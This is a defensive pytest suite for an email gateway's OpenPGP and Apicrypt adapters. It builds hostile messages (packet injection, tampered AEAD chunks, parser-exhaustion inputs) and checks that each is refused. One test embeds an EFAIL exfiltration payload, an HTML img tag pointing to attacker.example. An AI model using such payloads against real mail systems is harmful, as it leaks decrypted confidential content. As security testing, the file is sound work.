"""Attacks on the OpenPGP and Apicrypt adapters, one named test per attack, at the adapter level.

No SMTP: each test hands a hostile message to `unwrap` (or a hostile body to a parser) and
checks what must hold. A message is `encrypted` only if all of its content came out of the
decryption of a pure encrypted message (session-key packets, one integrity-protected
container, nothing after it); a signature passes only for content it covers; an integrity
failure is 5.7.7 with no plaintext anywhere; nothing crashes; no input costs more than a pass
over it (the pathological inputs are sized so that a quadratic parser would hang for minutes).

Vectors are made here: literal, compressed and trailing packets with
`adapters.pgppackets.packet`, encrypted messages with pysequoia, signed-only and stored
messages with GnuPG (`--sign`, `--store`), and AEAD (tag 20) messages from the Thunderbird
corpus (../shared/data/thunderbird-openpgp/, GnuPG `--force-ocb`) or re-encrypted under its
session key by `aead_packet` below, which GnuPG 2.2 decrypts (tests/interop).
"""

from __future__ import annotations

import base64
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pysequoia
import pytest
from cryptography.hazmat.primitives.ciphers.aead import AESOCB3

from adapters import openpgp as openpgp_module
from adapters import pgpkeys
from adapters.apicrypt import ApicryptAdapter
from adapters.base import Directory, Identity, TrustStore, UnwrapContext, Unwrapped
from adapters.cms.entity import decode_body, multipart_parts, parse_entity
from adapters.openpgp import OpenPgpAdapter
from adapters.pgpkeys import MAX_ENCRYPTED_BLOCKS, generate_identity, network_key, sign_detached
from adapters.pgpmime import canonical_crlf, find_armored, outer_fields, whole_armored
from adapters.pgppackets import (
    TAG_AED,
    TAG_COMPRESSED,
    TAG_LITERAL,
    TAG_MARKER,
    TAG_PADDING,
    TAG_PKESK,
    Packet,
    _session_keys,
    dearmor,
    packet,
    read_secret_keys,
    split_packets,
)
from gateway.config import NetworkSettings, PeerRule, Requirements
from gateway.errors import GatewayError, PermanentFailure, Reason
from gateway.pipeline import enforce
from tests.support.gpg import Gpg

NOW = datetime(2026, 11, 23, 10, 0, tzinfo=UTC)
SENDER = "dr.martin@cabinet.test"
SECRET = b"Patient DUPONT: HbA1c 7,2 %"  # never to be seen in an error or as "encrypted"
OPENPGP = OpenPgpAdapter()
APICRYPT = ApicryptAdapter()
DATA = Path(__file__).resolve().parents[3] / "shared" / "data" / "thunderbird-openpgp"
BOB_SECRET = DATA / "keys" / "bob@openpgp.example-0xfbfcc82a015e7330-secret.asc"


@dataclass(frozen=True)
class Keys:
    gateway: bytes  # the network identity (secret)
    gateway_cert: pysequoia.Cert
    sender: bytes  # a correspondent in the directory, whose user ID is SENDER
    sender_public: bytes


@pytest.fixture(scope="module")
def keys() -> Keys:
    gateway = generate_identity("Passerelle <gw@passerelle.test>", created=NOW - timedelta(1))
    sender = generate_identity(f"Dr Martin <{SENDER}>", created=NOW - timedelta(1))
    return Keys(
        gateway, pysequoia.Tsk.from_bytes(gateway).extract_certificate(), sender,
        str(pysequoia.Tsk.from_bytes(sender).extract_certificate()).encode(),
    )


def context(keys: Keys, secret: bytes | None = None) -> UnwrapContext:
    return UnwrapContext(
        "pgp", Identity("gw", openpgp_secret=secret or keys.gateway), TrustStore(),
        Directory(openpgp=(keys.sender_public,)), NOW,
    )


def armor(binary: bytes) -> bytes:
    return str(pysequoia.armor(binary, pysequoia.ArmorKind.Message)).encode("ascii")


def literal(data: bytes) -> bytes:
    return packet(TAG_LITERAL, b"b\x00" + bytes(4) + data)


def compressed(inner: bytes) -> bytes:
    deflate = zlib.compressobj(wbits=-15)
    return packet(TAG_COMPRESSED, b"\x01" + deflate.compress(inner) + deflate.flush())


def encrypted_to(keys: Keys, data: bytes) -> bytes:
    """A genuine PKESK + SEIPD message to the gateway (binary), made by pysequoia."""
    made = pysequoia.encrypt(data, [keys.gateway_cert], armor=False)
    return made if isinstance(made, bytes) else bytes(made)


def inner_message(body: bytes = SECRET) -> bytes:
    return (b"From: <" + SENDER.encode() + b">\r\nSubject: resultats\r\n"
            b"Content-Type: text/plain\r\n\r\n" + body + b"\r\n")


def pgp_mime(armored: bytes) -> bytes:
    return (
        b"From: <" + SENDER.encode() + b">\r\nTo: <gw@passerelle.test>\r\nSubject: x\r\n"
        b'MIME-Version: 1.0\r\nContent-Type: multipart/encrypted; '
        b'protocol="application/pgp-encrypted"; boundary="E"\r\n\r\n'
        b"--E\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n"
        b"--E\r\nContent-Type: application/octet-stream\r\n\r\n" + armored + b"\r\n--E--\r\n"
    )


def inline(armored: bytes) -> bytes:
    return (b"From: <" + SENDER.encode() + b">\r\nSubject: x\r\n"
            b"Content-Type: text/plain\r\n\r\n" + armored)


def apicrypt(text: bytes, apz: bytes, extra: bytes = b"") -> bytes:
    """The Apicrypt layout: a text block, then an `.apz` attachment (binary, base64)."""
    return (
        b"From: <" + SENDER.encode() + b">\r\nSubject: Resultats\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="A"\r\n\r\n'
        b"--A\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n" + text + b"\r\n"
        b'--A\r\nContent-Type: application/octet-stream; name="cr.pdf.apz"\r\n'
        b'Content-Disposition: attachment; filename="cr.pdf.apz"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(apz) + b"\r\n"
        + extra + b"--A--\r\n"
    )


def text_leaves(raw: bytes) -> list[bytes]:
    """The decoded bodies of the leaves of `raw`, in order."""
    entity = parse_entity(raw)
    media_type, params = entity.content_type()
    if not media_type.startswith("multipart/"):
        return [decode_body(entity)]
    _, parts, _ = multipart_parts(entity.body, params["boundary"])
    return [leaf for part in parts for leaf in text_leaves(part)]


def refused_as_not_encrypted(adapter: object, raw: bytes, ctx: UnwrapContext) -> None:
    """The message is refused, typed, for its lack of encryption, with no plaintext in sight."""
    assert isinstance(adapter, OpenPgpAdapter | ApicryptAdapter)
    with pytest.raises(PermanentFailure) as caught:
        adapter.unwrap(raw, ctx)
    assert (caught.value.reason, caught.value.enhanced) == (Reason.ENCRYPTION_MISSING, "5.7.1")
    assert "encrypt" in caught.value.advice
    assert SECRET not in (caught.value.advice + caught.value.detail).encode()


# -- 1. "encrypted" only for a pure encrypted message -----------------------------------------

def test_multipart_encrypted_holding_a_literal_packet_is_refused(keys: Keys) -> None:
    raw = pgp_mime(armor(literal(inner_message())))
    refused_as_not_encrypted(OPENPGP, raw, context(keys))


def test_multipart_encrypted_holding_compressed_data_only_is_refused(keys: Keys) -> None:
    raw = pgp_mime(armor(compressed(literal(inner_message()))))
    refused_as_not_encrypted(OPENPGP, raw, context(keys))


def test_multipart_encrypted_holding_a_signed_only_message_is_refused(keys: Keys) -> None:
    # Signed by a correspondent the directory knows, matching From: still not encrypted.
    signer = pysequoia.Tsk.from_bytes(keys.sender).signer()
    signed = pysequoia.sign(signer, inner_message(), armor=True)
    raw = pgp_mime(signed if isinstance(signed, bytes) else str(signed).encode())
    refused_as_not_encrypted(OPENPGP, raw, context(keys))


def test_encrypted_message_with_a_trailing_literal_packet_is_refused(keys: Keys) -> None:
    genuine = encrypted_to(keys, inner_message(b"harmless"))
    raw = pgp_mime(armor(genuine + literal(inner_message())))
    refused_as_not_encrypted(OPENPGP, raw, context(keys))


def test_literal_packet_before_an_encrypted_message_is_refused(keys: Keys) -> None:
    genuine = encrypted_to(keys, inner_message(b"harmless"))
    raw = pgp_mime(armor(literal(inner_message()) + genuine))
    refused_as_not_encrypted(OPENPGP, raw, context(keys))


def test_encrypted_data_without_a_session_key_packet_is_refused(keys: Keys) -> None:
    container = [p for p in split_packets(encrypted_to(keys, b"x")) if p.tag != TAG_PKESK]
    raw = pgp_mime(armor(b"".join(p.raw for p in container)))
    refused_as_not_encrypted(OPENPGP, raw, context(keys))


def test_inline_block_with_a_trailing_literal_packet_is_refused(keys: Keys) -> None:
    genuine = encrypted_to(keys, b"harmless\r\n")
    raw = inline(armor(genuine + literal(SECRET)))
    refused_as_not_encrypted(OPENPGP, raw, context(keys))


def test_inline_literal_block_is_never_encrypted(keys: Keys) -> None:
    raw = inline(armor(literal(SECRET)))
    unwrapped = OPENPGP.unwrap(raw, context(keys))
    assert not unwrapped.encrypted and unwrapped.signature.result != "pass"
    assert unwrapped.content == raw


def test_marker_packet_before_a_genuine_encrypted_message_still_decrypts(keys: Keys) -> None:
    """The control: what RFC 9580 allows around the session keys is still accepted."""
    genuine = encrypted_to(keys, inner_message(b"genuine"))
    raw = pgp_mime(armor(packet(TAG_MARKER, b"PGP") + genuine))
    unwrapped = OPENPGP.unwrap(raw, context(keys))
    assert unwrapped.encrypted and unwrapped.content.endswith(b"genuine\r\n")


def test_flood_of_session_key_packets_is_refused_without_trying_them(keys: Keys) -> None:
    genuine = encrypted_to(keys, b"x")
    pkesk = next(p for p in split_packets(genuine) if p.tag == TAG_PKESK)
    raw = pgp_mime(armor(pkesk.raw * 5000 + genuine))
    with pytest.raises(PermanentFailure) as caught:
        OPENPGP.unwrap(raw, context(keys))
    assert caught.value.reason == Reason.DECRYPTION_FAILED and "session key" in caught.value.detail


def test_apz_attachment_holding_a_literal_packet_is_refused(keys: Keys) -> None:
    text = armor(encrypted_to(keys, b"texte\r\n"))
    raw = apicrypt(text, literal(SECRET))
    refused_as_not_encrypted(APICRYPT, raw, context(keys))


def test_apz_attachment_with_a_trailing_literal_packet_is_refused(keys: Keys) -> None:
    text = armor(encrypted_to(keys, b"texte\r\n"))
    raw = apicrypt(text, encrypted_to(keys, b"%PDF") + literal(SECRET))
    refused_as_not_encrypted(APICRYPT, raw, context(keys))


def test_apicrypt_text_block_holding_compressed_data_only_is_refused(keys: Keys) -> None:
    raw = apicrypt(armor(compressed(literal(SECRET))), encrypted_to(keys, b"%PDF"))
    refused_as_not_encrypted(APICRYPT, raw, context(keys))


def test_apicrypt_clear_part_beside_encrypted_blocks_is_left_as_it_arrived(keys: Keys) -> None:
    """EFAIL direct exfiltration: attacker HTML around captured blocks must not come back with
    the plaintext beside it, nor count as encrypted or signed."""
    signer = pysequoia.Tsk.from_bytes(keys.sender).signer()

    def sealed(data: bytes, armored: bool) -> bytes:
        made = pysequoia.encrypt(data, [keys.gateway_cert], signer=signer, armor=armored)
        return made if isinstance(made, bytes) else str(made).encode()

    injected = (b"--A\r\nContent-Type: text/html\r\n\r\n"
                b"<img src='https://attacker.example/?\r\n")
    blocks = (sealed(SECRET, True), sealed(b"%PDF", False))
    raw = apicrypt(*blocks, injected)
    unwrapped = APICRYPT.unwrap(raw, context(keys))
    assert unwrapped.content == raw and SECRET not in unwrapped.content
    assert not unwrapped.encrypted and unwrapped.signature.result == "none"
    # The same blocks without the injected part: encrypted, and the signatures pass.
    whole = APICRYPT.unwrap(apicrypt(*blocks), context(keys))
    assert whole.encrypted and whole.signature.result == "pass"
    assert text_leaves(whole.content)[0] == SECRET


@pytest.fixture(scope="module")
def gpg() -> Iterator[tuple[Gpg, str]]:
    peer = Gpg()  # `make test` installs GnuPG: an interop test that cannot run must fail
    fingerprint = peer.generate(f"Dr Martin <{SENDER}>")
    yield peer, fingerprint
    peer.close()


def test_multipart_encrypted_holding_gpg_store_output_is_refused(
    keys: Keys, gpg: tuple[Gpg, str]
) -> None:
    peer, _ = gpg
    stored = peer.run("--armor", "--store", input=inner_message(), check=True).output
    refused_as_not_encrypted(OPENPGP, pgp_mime(stored), context(keys))


def test_multipart_encrypted_holding_gpg_signed_only_message_is_refused(
    keys: Keys, gpg: tuple[Gpg, str]
) -> None:
    peer, fingerprint = gpg
    signed = peer.run("--armor", "--sign", "--local-user", fingerprint, input=inner_message(),
                      check=True).output
    ctx = UnwrapContext("pgp", Identity("gw", openpgp_secret=keys.gateway), TrustStore(),
                        Directory(openpgp=(peer.export_public(fingerprint),)), NOW)
    refused_as_not_encrypted(OPENPGP, pgp_mime(signed), ctx)


def test_apz_attachment_holding_gpg_signed_only_data_is_refused(
    keys: Keys, gpg: tuple[Gpg, str]
) -> None:
    peer, fingerprint = gpg
    signed = peer.run("--sign", "--local-user", fingerprint, input=SECRET, check=True).output
    raw = apicrypt(armor(encrypted_to(keys, b"texte\r\n")), signed)
    refused_as_not_encrypted(APICRYPT, raw, context(keys))


# -- 2. no input costs more than a pass over it ----------------------------------------------
# Each input is a few MiB: the backtracking search or the repeated concatenation these tests
# replaced takes many minutes on it, so a regression shows as a hang, not as a slow test.

@pytest.mark.parametrize("begin", [b"-----BEGIN PGP MESSAGE-----",
                                   b"-----BEGIN PGP SIGNED MESSAGE-----"])
def test_many_armor_begin_lines_without_an_end_are_read_in_one_pass(
    keys: Keys, begin: bytes
) -> None:
    body = (begin + b"\r\n") * 120_000
    assert not find_armored(body) and whole_armored(body) is None
    assert find_armored(body + b"-----END PGP SIGNATURE-----\r\n")
    raw = inline(body)
    unwrapped = OPENPGP.unwrap(raw, context(keys))
    assert unwrapped.content == raw and not unwrapped.encrypted
    assert unwrapped.signature.result == "none"


def test_many_armor_begin_lines_in_a_multipart_body_are_read_in_one_pass(keys: Keys) -> None:
    raw = (b"From: <" + SENDER.encode() + b">\r\nContent-Type: multipart/mixed; boundary=M"
           b"\r\n\r\n--M\r\n\r\n" + b"-----BEGIN PGP MESSAGE-----\n" * 120_000 + b"--M--\r\n")
    unwrapped = OPENPGP.unwrap(raw, context(keys))
    assert unwrapped.content == raw and not unwrapped.encrypted


def test_armored_block_with_a_second_block_inside_is_not_a_whole() -> None:
    first = b"-----BEGIN PGP MESSAGE-----\n\nAAAA\n-----END PGP MESSAGE-----\n"
    assert whole_armored(first) is not None
    assert whole_armored(first + b"injected\n" + first) is None


def test_many_header_fields_are_copied_in_one_pass() -> None:
    head = b"To: <a@b.test>\r\n" * 300_000
    assert outer_fields(head) == head


def test_deeply_nested_apicrypt_parts_are_refused_as_malformed(keys: Keys) -> None:
    body = b"Content-Type: text/plain\r\n\r\nx\r\n"
    for level in range(40):
        mark = f"b{level}".encode()
        body = (b"Content-Type: multipart/mixed; boundary=" + mark + b"\r\n\r\n--" + mark
                + b"\r\n" + body + b"\r\n--" + mark + b"--\r\n")
    raw = b"From: <" + SENDER.encode() + b">\r\n" + body
    with pytest.raises(PermanentFailure) as caught:
        APICRYPT.unwrap(raw, context(keys))
    assert caught.value.reason == Reason.MALFORMED and "nested" in caught.value.detail


# -- 3. AEAD (tag 20): every chunk tag and the final tag, before any plaintext ---------------

def aead_packet(session: bytes, plaintext: bytes, chunk_octet: int, iv: bytes) -> bytes:
    """A LibrePGP v1 AEAD packet (AES-256, OCB), written from draft-koch-librepgp §5.16."""
    prefix = bytes([0xC0 | TAG_AED, 1, 9, 2, chunk_octet])
    ocb = AESOCB3(session)
    size = 1 << (chunk_octet + 6)

    def nonce(index: int) -> bytes:
        return iv[:7] + (int.from_bytes(iv[7:], "big") ^ index).to_bytes(8, "big")

    chunks = [plaintext[i: i + size] for i in range(0, len(plaintext), size)] or [b""]
    body = b"".join(ocb.encrypt(nonce(i), chunk, prefix + struct.pack(">Q", i))
                    for i, chunk in enumerate(chunks))
    final = ocb.encrypt(nonce(len(chunks)), b"",
                        prefix + struct.pack(">QQ", len(chunks), len(plaintext)))
    return packet(TAG_AED, prefix[1:] + iv + body + final)


@dataclass(frozen=True)
class AeadVector:
    bob: bytes  # Bob's secret key: the network identity
    pkesk: Packet  # from the GnuPG-made vector
    container: Packet  # its AEAD packet (one chunk)
    session: bytes  # recovered with Bob's key, to write multi-chunk packets

    def message(self, container: bytes) -> bytes:
        return pgp_mime(armor(self.pkesk.raw + container))


def aead_vector_packets() -> tuple[bytes, list[Packet]]:
    raw = (DATA / "eml" / "rc-openpgp-aead.eml").read_bytes()
    entity = parse_entity(raw)
    _, parts, _ = multipart_parts(entity.body, entity.content_type()[1]["boundary"])
    return raw, split_packets(dearmor(decode_body(parse_entity(parts[1]))))


@pytest.fixture(scope="module")
def aead() -> AeadVector:
    bob = BOB_SECRET.read_bytes()
    _, (pkesk, container) = aead_vector_packets()
    secrets = read_secret_keys(bytes(pysequoia.Tsk.from_bytes(bob)))
    [(_algorithm, session, _fingerprint)] = _session_keys([pkesk], secrets)
    return AeadVector(bob, pkesk, container, session)


def bob_context(vector: AeadVector) -> UnwrapContext:
    return UnwrapContext("pgp", Identity("bob", openpgp_secret=vector.bob), TrustStore(),
                         Directory(), NOW)


def integrity_failure(vector: AeadVector, container: bytes) -> PermanentFailure:
    with pytest.raises(PermanentFailure) as caught:
        OPENPGP.unwrap(vector.message(container), bob_context(vector))
    assert (caught.value.reason, caught.value.enhanced) == (Reason.DECRYPTION_FAILED, "5.7.7")
    assert b"Integrity-protected" not in (caught.value.advice + caught.value.detail).encode()
    return caught.value


CLEAR = inner_message(b"chunk " * 40)  # 240-odd octets: four 64-octet chunks
IV = bytes(range(15))


def test_aead_message_written_in_several_chunks_decrypts(aead: AeadVector) -> None:
    """The control for the tampering tests below (GnuPG reads the same packets: interop)."""
    unwrapped = OPENPGP.unwrap(aead.message(aead_packet(aead.session, literal(CLEAR), 0, IV)),
                               bob_context(aead))
    assert unwrapped.encrypted and unwrapped.content.endswith(b"chunk \r\n")


def test_aead_message_signed_and_compressed_inside_verifies_in_the_second_step(
    aead: AeadVector, keys: Keys
) -> None:
    """GnuPG's layering (encryption > compression > one-pass signature) inside tag 20."""
    signed = pysequoia.sign(pysequoia.Tsk.from_bytes(keys.sender).signer(), inner_message(),
                            armor=False)
    inner = compressed(signed if isinstance(signed, bytes) else bytes(signed))
    raw = aead.message(aead_packet(aead.session, inner, 0, IV))
    ctx = UnwrapContext("pgp", Identity("bob", openpgp_secret=aead.bob), TrustStore(),
                        Directory(openpgp=(keys.sender_public,)), NOW)
    unwrapped = OPENPGP.unwrap(raw, ctx)
    assert unwrapped.encrypted and unwrapped.content.endswith(SECRET + b"\r\n")
    assert unwrapped.signature.result == "pass" and unwrapped.signature.signer == SENDER
    # The same message, the signer's key not in the directory: signed, not verified.
    unknown = OPENPGP.unwrap(raw, bob_context(aead)).signature
    assert (unknown.result, unknown.reason) == ("fail", "signer key unknown")


def test_aead_flipped_ciphertext_byte_is_an_integrity_failure(aead: AeadVector) -> None:
    raw = bytearray(aead.container.raw)
    raw[30] ^= 0x01
    integrity_failure(aead, bytes(raw))


def test_aead_flipped_final_tag_is_an_integrity_failure(aead: AeadVector) -> None:
    raw = bytearray(aead.container.raw)
    raw[-1] ^= 0x80
    assert "final" in integrity_failure(aead, bytes(raw)).detail


def test_aead_truncated_packet_is_an_integrity_failure(aead: AeadVector) -> None:
    body = aead.container.body[:-20]
    integrity_failure(aead, packet(TAG_AED, body))


def test_aead_packet_cut_at_a_chunk_boundary_is_an_integrity_failure(aead: AeadVector) -> None:
    whole = aead_packet(aead.session, literal(CLEAR), 0, IV)
    body = split_packets(whole)[0].body
    # Drop the last chunk and keep the final tag: only the final tag can notice.
    step = 64 + 16
    head, chunks, final = body[:19], body[19:-16], body[-16:]
    cut = chunks[: (len(chunks) // step) * step]
    assert 0 < len(cut) < len(chunks)
    assert "final" in integrity_failure(aead, packet(TAG_AED, head + cut + final)).detail


def test_aead_dropped_chunk_is_an_integrity_failure(aead: AeadVector) -> None:
    body = split_packets(aead_packet(aead.session, literal(CLEAR), 0, IV))[0].body
    step = 64 + 16
    head, chunks = body[:19], body[19:]
    integrity_failure(aead, packet(TAG_AED, head + chunks[:step] + chunks[2 * step:]))


def test_aead_reordered_chunks_are_an_integrity_failure(aead: AeadVector) -> None:
    body = split_packets(aead_packet(aead.session, literal(CLEAR), 0, IV))[0].body
    step = 64 + 16
    head, chunks = body[:19], body[19:]
    swapped = chunks[step: 2 * step] + chunks[:step] + chunks[2 * step:]
    integrity_failure(aead, packet(TAG_AED, head + swapped))


def test_aead_with_eax_is_refused_as_unsupported(aead: AeadVector) -> None:
    body = bytearray(aead.container.body)
    body[2] = 1  # AEAD algorithm EAX
    with pytest.raises(PermanentFailure) as caught:
        OPENPGP.unwrap(aead.message(packet(TAG_AED, bytes(body))), bob_context(aead))
    assert (caught.value.reason, caught.value.enhanced) == (Reason.UNSUPPORTED_ALGORITHM, "5.7.6")
    assert "EAX" in caught.value.detail


def test_aead_holding_two_literal_packets_is_refused(aead: AeadVector) -> None:
    doubled = literal(b"first") + literal(SECRET)
    with pytest.raises(GatewayError) as caught:
        OPENPGP.unwrap(aead.message(aead_packet(aead.session, doubled, 0, IV)),
                       bob_context(aead))
    assert caught.value.permanent and SECRET not in caught.value.detail.encode()


def test_gpg_made_aead_vector_unwraps_as_encrypted(aead: AeadVector) -> None:
    raw, _ = aead_vector_packets()
    unwrapped: Unwrapped = OPENPGP.unwrap(raw, bob_context(aead))
    assert unwrapped.encrypted and unwrapped.signature.result == "none"
    assert b"<p>Integrity-protected secret body.</p>" in unwrapped.content
    assert unwrapped.content.startswith(b"From: Alice <alice@openpgp.example>")


# -- 4. a signature over ciphertext is neutral, never the author's, never enough -------------

def pgp_mime_entity(armored: bytes) -> bytes:
    """The `multipart/encrypted` entity of `pgp_mime`, without the message header."""
    raw = pgp_mime(armored)
    return raw[raw.index(b"Content-Type: multipart/encrypted"):].replace(
        b"MIME-Version: 1.0\r\n", b"")


def signed_around(keys: Keys, entity: bytes, signed_data: bytes | None = None) -> bytes:
    """A PGP/MIME `multipart/signed` by SENDER (From: SENDER) around `entity`; the signature
    is made over `signed_data` when given (a signature that does not match)."""
    key = network_key(Identity("sender", openpgp_secret=keys.sender))
    signature = sign_detached(key, canonical_crlf(signed_data or entity), NOW)
    return (
        b"From: <" + SENDER.encode() + b">\r\nTo: <gw@passerelle.test>\r\nSubject: x\r\n"
        b"MIME-Version: 1.0\r\nContent-Type: multipart/signed; micalg=pgp-sha256; "
        b'protocol="application/pgp-signature"; boundary="S"\r\n\r\n'
        b"--S\r\n" + entity + b"\r\n--S\r\nContent-Type: application/pgp-signature\r\n\r\n"
        + signature + b"\r\n--S--\r\n"
    )


def requiring_signatures() -> NetworkSettings:
    return NetworkSettings("cabinets", "openpgp", ("cabinet.test",), PeerRule(),
                           require=Requirements(signature=True, encryption=True))


@pytest.mark.parametrize("adapter", [OPENPGP, APICRYPT], ids=["openpgp", "apicrypt"])
@pytest.mark.parametrize("shape", ["pgp-mime", "inline"])
def test_valid_signature_over_ciphertext_is_neutral_and_never_meets_require_signature(
    keys: Keys, adapter: OpenPgpAdapter | ApicryptAdapter, shape: str,
) -> None:
    """Anyone who sees the encrypted mail can sign it: the signer's key is valid and matches
    From:, and still the decrypted text is not presented as signed by them."""
    armored = armor(encrypted_to(keys, inner_message()))
    entity = pgp_mime_entity(armored) if shape == "pgp-mime" else (
        b"Content-Type: text/plain; charset=us-ascii\r\n\r\n" + armored)
    unwrapped = adapter.unwrap(signed_around(keys, entity), context(keys))
    assert unwrapped.encrypted and SECRET in unwrapped.content
    verdict = unwrapped.signature
    assert (verdict.method, verdict.result, verdict.reason) == (
        adapter.method, "neutral", "signature covers only the encrypted content")
    assert verdict.signer is None and verdict.failure is None
    assert unwrapped.signed_entity is None
    assert any("over the encrypted part" in note for note in unwrapped.notes)
    with pytest.raises(PermanentFailure) as caught:
        enforce(requiring_signatures(), requiring_signatures().require, unwrapped)
    assert caught.value.reason == Reason.SIGNATURE_MISSING
    assert "signature covers only the encrypted content" in caught.value.advice


def test_broken_signature_over_ciphertext_stays_a_failure(keys: Keys) -> None:
    entity = pgp_mime_entity(armor(encrypted_to(keys, inner_message())))
    raw = signed_around(keys, entity, signed_data=entity + b"other octets")
    verdict = OPENPGP.unwrap(raw, context(keys)).signature
    assert (verdict.result, verdict.failure) == ("fail", Reason.SIGNATURE_INVALID)


def test_signature_inside_the_encryption_speaks_over_one_around_it(keys: Keys) -> None:
    """Sign, encrypt, sign: the author's inner signature gives the verdict; the outer one over
    the ciphertext is a note."""
    signer = pysequoia.Tsk.from_bytes(keys.sender).signer()
    made = pysequoia.encrypt(inner_message(), [keys.gateway_cert], signer=signer, armor=True)
    entity = pgp_mime_entity(made if isinstance(made, bytes) else str(made).encode())
    unwrapped = OPENPGP.unwrap(signed_around(keys, entity), context(keys))
    assert unwrapped.signature.result == "pass" and unwrapped.signature.signer == SENDER
    assert any("over the encrypted part" in note for note in unwrapped.notes)


def test_cleartext_read_otherwise_than_its_signature_is_never_handed_on(
    keys: Keys, monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The sender's lines are handed on only when they are the text pysequoia verified; should
    the two readings of a cleartext block ever differ, the verified text is what goes on."""
    signer = pysequoia.Tsk.from_bytes(keys.sender).signer()
    made = pysequoia.sign(signer, b"Resultats normaux", mode=pysequoia.SignatureMode.CLEAR)
    block = made if isinstance(made, bytes) else str(made).encode()
    monkeypatch.setattr(openpgp_module, "cleartext", lambda _: SECRET + b"\nResultats normaux\n")
    unwrapped = OPENPGP.unwrap(inline(block), context(keys))
    assert unwrapped.signature.result == "pass"
    assert text_leaves(unwrapped.content) == [b"Resultats normaux"]
    assert "cleartext given as verified, not as written" in unwrapped.notes


# -- 5. the number of encrypted blocks a message may make the gateway open ------------------

def apicrypt_blocks(text: bytes, attachments: list[bytes]) -> bytes:
    parts = b"".join(
        b'--A\r\nContent-Type: application/octet-stream; name="p' + str(i).encode() + b'.apz"\r\n'
        b'Content-Disposition: attachment; filename="p' + str(i).encode() + b'.apz"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(data) + b"\r\n"
        for i, data in enumerate(attachments)
    )
    return (
        b"From: <" + SENDER.encode() + b">\r\nSubject: Resultats\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="A"\r\n\r\n'
        b"--A\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n" + text + b"\r\n"
        + parts + b"--A--\r\n"
    )


def too_many_blocks(caught: pytest.ExceptionInfo[PermanentFailure], count: int) -> None:
    assert (caught.value.reason, caught.value.enhanced) == (Reason.MALFORMED, "5.6.0")
    assert f"holds {count} encrypted parts" in caught.value.advice
    assert "several messages" in caught.value.advice


def test_apicrypt_message_with_more_blocks_than_the_cap_is_refused_before_opening_any(
    keys: Keys,
) -> None:
    # The attachments are not even OpenPGP: opening the first would fail differently.
    text = armor(encrypted_to(keys, b"texte\r\n"))
    raw = apicrypt_blocks(text, [b"\x00not a block"] * MAX_ENCRYPTED_BLOCKS)
    with pytest.raises(PermanentFailure) as caught:
        APICRYPT.unwrap(raw, context(keys))
    too_many_blocks(caught, MAX_ENCRYPTED_BLOCKS + 1)


def test_apicrypt_block_cap_counts_the_text_block_and_every_apz(
    keys: Keys, monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(pgpkeys, "MAX_ENCRYPTED_BLOCKS", 3)
    text = armor(encrypted_to(keys, b"texte\r\n"))
    attachment = encrypted_to(keys, b"%PDF")
    assert APICRYPT.unwrap(apicrypt_blocks(text, [attachment] * 2), context(keys)).encrypted
    with pytest.raises(PermanentFailure) as caught:
        APICRYPT.unwrap(apicrypt_blocks(text, [attachment] * 3), context(keys))
    too_many_blocks(caught, 4)


def test_pgp_mime_block_cap_counts_every_decryption(
    keys: Keys, monkeypatch: pytest.MonkeyPatch,
) -> None:
    inner = pgp_mime_entity(armor(encrypted_to(keys, inner_message())))
    nested = pgp_mime(armor(encrypted_to(keys, inner)))
    assert SECRET in OPENPGP.unwrap(nested, context(keys)).content  # the control: two layers
    monkeypatch.setattr(pgpkeys, "MAX_ENCRYPTED_BLOCKS", 1)
    with pytest.raises(PermanentFailure) as caught:
        OPENPGP.unwrap(nested, context(keys))
    too_many_blocks(caught, 2)


# -- 6. padding packets (RFC 9580 §5.14) may follow the encrypted data, nothing else may -----

def padding(size: int = 32) -> bytes:
    return packet(TAG_PADDING, bytes(i % 251 for i in range(size)))


def test_padding_packet_after_the_encrypted_data_is_accepted(keys: Keys) -> None:
    genuine = encrypted_to(keys, inner_message())
    unwrapped = OPENPGP.unwrap(pgp_mime(armor(genuine + padding() + padding(300))),
                               context(keys))
    assert unwrapped.encrypted and unwrapped.content.endswith(SECRET + b"\r\n")
    raw = apicrypt(armor(encrypted_to(keys, b"texte\r\n") + padding()),
                   encrypted_to(keys, b"%PDF") + padding())
    assert text_leaves(APICRYPT.unwrap(raw, context(keys)).content) == [b"texte\r\n", b"%PDF"]


@pytest.mark.parametrize("trailer", [
    packet(TAG_MARKER, b"PGP"),
    padding() + literal(SECRET),
    padding() + packet(TAG_MARKER, b"PGP"),
], ids=["marker", "padding-then-literal", "padding-then-marker"])
def test_only_padding_may_follow_the_encrypted_data(keys: Keys, trailer: bytes) -> None:
    genuine = encrypted_to(keys, inner_message(b"harmless"))
    refused_as_not_encrypted(OPENPGP, pgp_mime(armor(genuine + trailer)), context(keys))
